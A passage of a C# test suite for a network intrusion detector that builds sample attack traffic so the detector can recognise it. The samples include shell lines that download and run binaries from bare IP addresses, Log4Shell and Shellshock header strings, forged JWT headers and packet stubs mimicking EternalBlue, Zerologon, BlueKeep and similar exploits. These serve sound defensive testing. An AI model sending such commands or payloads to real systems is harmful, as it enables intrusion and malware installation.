    [InlineData("! scan finished, 192.0.2.9 is clean\n", false)]
    [InlineData("!* SLEEP 60\n", false)]
    public void An_order_needs_an_attack_and_an_address(string text, bool found) =>
        Assert.Equal(found, Look(text, fromResponder: true) is { Kind: IndicatorKind.RemoteAccess, FromResponder: true });

    [Fact]
    public void A_serialised_object_that_runs_something_is_told_from_others()
    {
        byte[] Stream(string type) => [.. "JRMI"u8, 0, 2, (byte)'K', 0x50, 0xAC, 0xED, 0, 5, 0x73, 0x72, 0, (byte)type.Length, .. Encoding.ASCII.GetBytes(type), .. new byte[40]];
        Assert.Equal("java-object", Look(Stream("org.apache.commons.collections4.functors.InvokerTransformer"))!.Name);
        Assert.Null(Look(Stream("com.example.orders.Order")));
    }

    [Theory]
    [InlineData("orf;cd /tmp; wget http://203.0.113.9/b/mips; sh mips", true)]
    [InlineData("orf;cd /tmp; wget http://files.example/b/mips", false)]
    [InlineData("<13>Nov 27 app: see wget http://203.0.113.9/notes", false)]
    [InlineData("<78>Nov 27 web CRON[12]: (root) CMD (cd /opt; wget http://203.0.113.9/ping)", false)]
    [InlineData("{\"short_message\":\"(cd /opt; wget http://203.0.113.9/ping)\"}", false)]
    [InlineData("job 7 ran: cd /opt; wget http://203.0.113.9/ping", false)]
    public void A_datagram_that_loads_from_a_bare_address_is_an_exploit(string text, bool found)
    {
        var state = new PeekState();
        Assert.Equal(found, new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 40_000, 9034, Encoding.ASCII.GetBytes(text)) is Indicator { Name: "loader-command" });
    }

    [Fact]
    public void A_channel_is_entered_by_a_password_too()
    {
        var peek = new PayloadPeek();
        var state = new PeekState();
        Assert.IsType<Indicator>(peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 6667, "PASS x\r\nNICK [DEU|W10|x64]48213\r\n"u8));
        Assert.Equal(AppProtocol.Irc, state.Application);
    }

    [Fact]
    public void A_heartbeat_that_claims_more_than_it_holds_is_heartbleed()
    {
        Assert.Equal("heartbleed", Look([0x18, 3, 2, 0, 3, 1, 0x40, 0], application: AppProtocol.Tls)!.Name);
        byte[] honest = [0x18, 3, 3, 0, 23, 1, 0, 4, .. new byte[20]];
        Assert.Null(Look(honest, application: AppProtocol.Tls));
    }

    [Fact]
    public void Trans2_session_setup_is_eternalblue_and_other_subcommands_are_not()
    {
        Assert.Equal("eternalblue", Look(Trans2(0x0E), application: AppProtocol.Smb)!.Name);
        Assert.Null(Look(Trans2(0x05), application: AppProtocol.Smb));
    }

    [Fact]
    public void A_zero_challenge_is_told_from_a_random_one()
    {
        Assert.Equal("zerologon", Look(Challenge(0), application: AppProtocol.DceRpc)!.Name);
        Assert.Null(Look(Challenge(0x5A), application: AppProtocol.DceRpc));
    }

    [Fact]
    public void A_service_that_is_a_command_line_and_a_sled_are_found_and_padding_is_not()
    {
        byte[] head = Trans2(0x05);
        Assert.Equal("service-command", Look([.. head, .. Encoding.Unicode.GetBytes("%COMSPEC% /Q /c echo cd")], application: AppProtocol.Smb)!.Name);
        Assert.Null(Look([.. head, .. Encoding.Unicode.GetBytes("C:\\Windows\\System32\\svchost.exe -k")], application: AppProtocol.Smb));
        Assert.Equal("shellcode", Look([.. head, .. Enumerable.Repeat((byte)0x90, 120)], application: AppProtocol.Smb)!.Name);
        Assert.Null(Look([.. head, .. Enumerable.Repeat((byte)0x90, 30)], application: AppProtocol.Smb));
    }

    [Fact]
    public void A_stage_with_its_length_is_a_loader_and_a_program_in_a_file_transfer_is_not()
    {
        byte[] program = [.. "MZARUH"u8, .. new byte[200]];
        byte[] length = BitConverter.GetBytes(180_000);
        Assert.Equal(IndicatorKind.Stage, Look([.. length, .. program], fromResponder: true)!.Kind);
        byte[] plain = [.. "MZ\u0090"u8, .. new byte[200]];
        Assert.Null(Look(plain, fromResponder: true));
    }

    [Fact]
    public void Remote_calls_are_told_by_interface_and_operation()
    {
        Assert.Equal("remote-service", Call("367abb81-9844-35f1-ad32-98f038001003", 12)!.Name);
        Assert.Equal("remote-task", Call("86d35949-83c9-4044-b424-db363231fd0c", 1)!.Name);

        // Asking for a service's state, and the same operation of another interface.
        Assert.Null(Call("367abb81-9844-35f1-ad32-98f038001003", 6));
        Assert.Null(Call("12345778-1234-abcd-ef00-0123456789ac", 12));
    }

    [Theory]
    [InlineData("4fc742e0-4a10-11cf-8273-00aa004ae673", 13, "coerced-login")]
    [InlineData("82273fdc-e32a-18c3-3f78-827929dc23ea", 9, "coerced-login")]
    [InlineData("338cd001-2244-31f1-aaaa-900090013800", 20, "registry-save")]
    [InlineData("367abb81-9844-35f1-ad32-98f038001003", 23, "remote-service")]
    [InlineData("e3514235-4b06-11d1-ab04-00c04fc2dcd2", 3, "directory-replication")]
    [InlineData("e3514235-4b06-11d1-ab04-00c04fc2dcd2", 17, "directory-forgery")]
    [InlineData("82273fdc-e32a-18c3-3f78-827929dc23ea", 0, "log-emptied")]
    [InlineData("f6beaff7-1e19-4fbb-9f8f-b89e2018337c", 6, "log-emptied")]
    [InlineData("12345778-1234-abcd-ef00-0123456789ab", 43, "stored-secret")]
    [InlineData("a8e0653c-2744-4389-a61d-7373df8b2292", 8, "coerced-login")]
    [InlineData("12345678-1234-abcd-ef00-0123456789ab", 65, Indicator.PrinterNotice)]
    [InlineData("12345778-1234-abcd-ef00-0123456789ac", 58, "account-changed")]
    public void Calls_that_coerce_a_log_in_or_save_secrets_are_watched(string binding, byte operation, string name)
    {
        var call = Call(binding, operation)!;
        Assert.Equal((IndicatorKind.RemoteAdmin, name), (call.Kind, call.Name));
        Assert.StartsWith("T1", call.Technique, StringComparison.Ordinal);
        Assert.Null(Call(binding, 2));
    }

    [Fact]
    public void Calls_that_nobody_makes_from_afar_and_questions_for_all_services_are_told()
    {
        const string Roles = "3919286a-b10c-11d0-9ba8-00c04fd92ef5", Mapper = "e1af8308-5d1f-11c9-91a4-08002b14a0fa", Names = "50abc2a4-574d-40b3-9d66-ee4fd5fba076";
        Assert.Equal((IndicatorKind.Exploit, "ms04-011"), (Call(Roles, 9)!.Kind, Call(Roles, 9)!.Name));
        Assert.Null(Call(Roles, 0));
        Assert.Equal(IndicatorKind.Discovery, Call(Mapper, 2)!.Kind);
        Assert.Null(Call(Mapper, 3));
        Assert.Equal("dns-plugin", Call(Names, 5, Encoding.ASCII.GetBytes("....ServerLevelPluginDll\0"))!.Name);
        Assert.Null(Call(Names, 5, Encoding.ASCII.GetBytes("....AllowUpdate.........\0")));
    }

    [Fact]
    public void Questions_for_sessions_users_and_powerful_groups_are_told()
    {
        const string Accounts = "12345778-1234-abcd-ef00-0123456789ac", Server = "4b324fc8-1670-01d3-1278-5a47bf6ee188", Station = "6bffd098-a112-3610-9833-46c3f87e345a";
        Assert.Equal((IndicatorKind.Discovery, "T1049"), (Call(Server, 12)!.Kind, Call(Server, 12)!.Technique));
        Assert.Equal(IndicatorKind.Discovery, Call(Station, 2)!.Kind);
        Assert.Equal("group-members", Call(Accounts, 17, Encoding.Unicode.GetBytes("....Domain Admins"))!.Name);

        // Shares, a station's name, an ordinary group, one's own password.
        Assert.Null(Call(Server, 15));
        Assert.Null(Call(Station, 0));
        Assert.Null(Call(Accounts, 17, Encoding.Unicode.GetBytes("....Print Operators")));
        Assert.Null(Call(Accounts, 55));
    }

    [Fact]
    public void A_path_that_climbs_twice_is_MS08_067_and_an_ordinary_one_is_not()
    {
        const string Paths = "4b324fc8-1670-01d3-1278-5a47bf6ee188";
        var call = Call(Paths, 31, Encoding.Unicode.GetBytes(@"\ab\..\..\XYZ"))!;
        Assert.Equal((IndicatorKind.Exploit, "ms08-067"), (call.Kind, call.Name));
        Assert.Null(Call(Paths, 31, Encoding.Unicode.GetBytes(@"\share\..\public\a.txt")));
        Assert.Null(Call(Paths, 15, Encoding.Unicode.GetBytes(@"\ab\..\..\XYZ")));
    }

    [Fact]
    public void Objects_that_run_commands_are_told_from_others_that_are_started_far_away()
    {
        const string Activator = "000001a0-0000-0000-c000-000000000046";
        Assert.Equal("remote-object", Call(Activator, 4, new Guid("49b2791a-b1ae-4c90-9b8e-e860ba07f889").ToByteArray())!.Name);
        Assert.Null(Call(Activator, 4, new Guid("8bc3f05e-d86b-11d0-a075-00c04fb68820").ToByteArray()));
    }

    [Fact]
    public void The_inner_channel_of_RDP_is_asked_for_by_BlueKeep_alone()
    {
        Assert.Equal("bluekeep", Channels("rdpdr\0\0\0MS_T120\0")!.Name);
        Assert.Null(Channels("rdpdr\0\0\0cliprdr\0"));
    }

    private static Indicator? Channels(string names)
    {
        var peek = new PayloadPeek();
        var state = new PeekState();
        byte[] request = [3, 0, 0, 19, 14, 0xE0, 0, 0, 0, 0, 0, 1, 0, 8, 0, 0, 0, 0, 0];
        byte[] connect = [3, 0, 1, 0, 2, 0xF0, 0x80, 0x7F, 0x65, .. new byte[60], .. Encoding.ASCII.GetBytes(names)];
        Assert.Null(peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 3389, request));
        Assert.Equal(AppProtocol.Rdp, state.Application);
        Assert.True(peek.Wants(state, fromResponder: false));
        return peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 3389, connect) as Indicator;
    }

    [Fact]
    public void Slammer_is_told_by_its_code_and_a_question_for_an_instance_is_not()
    {
        byte[] worm = [4, .. Enumerable.Repeat((byte)1, 96), .. new byte[100], .. "Qh.dllhel32hkernQhounthickChGet"u8, .. new byte[100]];
        Assert.Equal((IndicatorKind.Bot, "slammer"), Datagram(worm) is { } found ? (found.Kind, found.Name) : default);
        Assert.Null(Datagram([4, .. "SQLEXPRESS\0"u8, .. new byte[250]]));
    }

    private static Indicator? Datagram(byte[] payload)
    {
        var state = new PeekState();
        return new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 1_150, 1_434, payload) as Indicator;
    }

    private static Indicator? Call(string binding, byte operation, byte[]? arguments = null)
    {
        var peek = new PayloadPeek();
        var state = new PeekState();
        byte[] bind = [5, 0, 11, 3, 0x10, 0, 0, 0, 72, 0, 0, 0, .. new byte[20], .. new Guid(binding).ToByteArray(), .. new byte[24]];
        byte[] request = [5, 0, 0, 3, 0x10, 0, 0, 0, 48, 0, 0, 0, .. new byte[10], operation, 0, .. arguments ?? [.. Enumerable.Repeat((byte)7, 24)]];
        Assert.Null(peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 49_700, bind));
        return peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 49_700, request) as Indicator;
    }

    /// <summary>Who connects to a desktop hears its version first; a desktop that calls out says its own first.</summary>
    [Theory]
    [InlineData(true, true)]
    [InlineData(false, false)]
    public void A_desktop_that_calls_out_says_its_version_first(bool clientFirst, bool found)
    {
        var peek = new PayloadPeek();
        var state = new PeekState();
        byte[] version = Encoding.ASCII.GetBytes("RFB 003.008\n");
        Assert.Null(peek.Look(ref state, !clientFirst, IpProtocol.Tcp, 40_000, 5_500, version));
        Assert.Equal(found, peek.Look(ref state, clientFirst, IpProtocol.Tcp, 40_000, 5_500, version) is Indicator { Name: Indicator.ReverseDesktop });
    }

    /// <summary>Programs of a house's own have names for what they call.</summary>
    [Theory]
    [InlineData("\u0006\u0056\u0044\u000b\u0001http://tempuri.org/Entity/Id2\u0040\u000dAuthorization\u0008\u0003ns1 dd5b25244", true)]
    [InlineData("\u0006\u0056\u0044\u000b\u0001http://tempuri.org/IOrders/GetOpenOrders\u0040\u000dAuthorization\u0008ns1", false)]
    [InlineData("see http://tempuri.org/Entity/Id2 for what the thief's calls are named like", false)]
    public void Calls_without_a_name_of_their_own_are_a_thiefs(string payload, bool found) => Assert.Equal(found, Look(payload) is { Kind: IndicatorKind.RemoteAccess });

    /// <summary>Tokens that were given out are signed, and their keys have names.</summary>
    [Theory]
    [InlineData("{\"alg\":\"none\",\"typ\":\"JWT\"}", true)]
    [InlineData("{\"typ\":\"JWT\", \"alg\" : \"nOnE\"}", true)]
    [InlineData("{\"alg\":\"HS256\",\"kid\":\"../../../dev/null\"}", true)]
    [InlineData("{\"alg\":\"HS256\",\"kid\":\"x' UNION SELECT 'k\"}", true)]
    [InlineData("{\"alg\":\"RS256\",\"kid\":\"2026-01/none\",\"typ\":\"JWT\"}", false)]
    [InlineData("{\"alg\":\"ES256\",\"kid\":\"keys/a\",\"iss\":\"it's\"}", false)]
    public void Tokens_that_nobody_signed_are_kept(string head, bool kept)
    {
        string token = $"{System.Buffers.Text.Base64Url.EncodeToString(Encoding.ASCII.GetBytes(head))}.e30.x";
        var state = new PeekState();
        var request = (HttpRequest)new PayloadPeek().Look(ref state, false, IpProtocol.Tcp, 40_000, 80, Encoding.ASCII.GetBytes($"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {token}\r\n\r\n"))!;
        Assert.Equal((kept ? head : "", false), (request.OddContext, request.HasAuthorization));
    }

    [Theory]
    [InlineData("X-Api-Version: ${jndi:ldap://x/a}", true)]
    [InlineData("Cookie: () { :;}; echo", true)]
    [InlineData("Cookie: prefs={\"a\":{\"b\":1}}", false)]
    public void Odd_headers_are_kept(string header, bool kept)
    {
        var state = new PeekState();
        var request = (HttpRequest)new PayloadPeek().Look(ref state, false, IpProtocol.Tcp, 40_000, 80, Encoding.ASCII.GetBytes($"GET / HTTP/1.1\r\nHost: a\r\n{header}\r\n\r\n"))!;
        Assert.Equal(kept, request.OddHeader.Length > 0);
    }

    private static byte[] Trans2(byte subcommand)
    {
        byte[] p = new byte[80];
        p[3] = 76;
        p[4] = 0xFF;
        "SMB"u8.CopyTo(p.AsSpan(5));
        p[8] = 0x32;
        p[36] = 15;
        p[63] = 1;
        p[65] = subcommand;
        return p;
    }

    private static byte[] Challenge(byte fill)
    {
        byte[] p = new byte[90];
        (p[0], p[2], p[3], p[4]) = (5, 0, 3, 0x10);
        BinaryPrimitives.WriteUInt16LittleEndian(p.AsSpan(8), (ushort)p.Length);
        p[22] = 4;
        p.AsSpan(40, 42).Fill((byte)'A');
        p.AsSpan(82).Fill(fill);
        return p;
    }

    private static byte[] Debugger(string service) =>
        [.. "OPEN"u8, 1, 0, 0, 0, 0, 0, 0, 0, (byte)service.Length, 0, 0, 0, 0, 0, 0, 0, 0xFF - (byte)'O', 0xFF - (byte)'P', 0xFF - (byte)'E', 0xFF - (byte)'N', .. Encoding.ASCII.GetBytes(service)];

    [Fact]
    public void A_debugger_that_is_told_to_load_a_program_and_a_broker_told_to_make_a_class_are_attacked()
    {
        Assert.Equal("adb-shell", Look(Debugger("shell:cd /data/local/tmp; busybox wget http://198.51.100.1/a; sh a"))!.Name);
        Assert.Null(Look(Debugger("shell:getprop ro.product.model")));
        Assert.Equal("openwire", Look([0, 0, 0, 120, 31, .. new byte[10], .. "org.springframework.context.support.ClassPathXmlApplicationContext"u8, 1, 0, 30, .. "http://198.51.100.1/poc.xml"u8])!.Name);
        Assert.Null(Look([0, 0, 0, 120, 31, .. new byte[10], .. "java.lang.IllegalStateException: see http://activemq.example/ for what it means, and then"u8]));
    }

    [Theory]
    [InlineData(0xA3, "/bin/sh", true)]
    [InlineData(0xA3, "Printer in room 12", false)]
    [InlineData(0xA0, "/bin/sh", false)]
    public void An_snmp_set_request_that_names_a_shell_is_a_command(byte kind, string value, bool found)
    {
        byte[] text = Encoding.ASCII.GetBytes(value);
        byte[] message = [0x30, (byte)(30 + text.Length), 2, 1, 1, 4, 7, .. "private"u8, kind, (byte)(16 + text.Length), .. new byte[16], .. text];
        var state = new PeekState();
        Assert.Equal(found, new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 40_000, 161, message) is Indicator { Name: "snmp-command" });
    }

    [Theory]
    [InlineData("0 3 http://203.0.113.7:12345/printers/office", 631, true)]
    [InlineData("1006 3 https://203.0.113.7/printers/a \"here\"", 631, true)]
    [InlineData("6 3 ipp://print.example:631/printers/a \"Hall\" \"Laser\"", 631, false)]
    [InlineData("0 3 http://203.0.113.7:12345/printers/office", 6310, false)]
    [InlineData("see 3 http://203.0.113.7/x", 631, false)]
    public void Printers_that_are_to_be_fetched_from_pages_are_an_exploit(string text, int port, bool found)
    {
        var state = new PeekState();
        Assert.Equal(found, new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 40_000, (ushort)port, Encoding.ASCII.GetBytes(text)) is Indicator { Name: "cups-browse", Kind: IndicatorKind.Exploit });
    }

    [Fact]
    public void A_shell_speaks_by_udp_too_and_a_program_comes_by_tftp()
    {
        var state = new PeekState();
        Assert.True(new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 40_999, 4053, "uid=0(root) gid=0(root) groups=0(root)\n"u8) is Indicator { Kind: IndicatorKind.Shell });
        state = new PeekState();
        Assert.True(new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 40_998, 4054, (byte[])[0, 3, 0, 1, 0x7F, .. "ELF"u8, 1, 2, 1, .. new byte[500]]) is Indicator { Kind: IndicatorKind.Program });
        state = new PeekState();
        Assert.Null(new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 40_997, 4055, (byte[])[0, 3, 0, 1, .. "\n! configuration of switch 12\n"u8, .. new byte[480]]));
    }
}
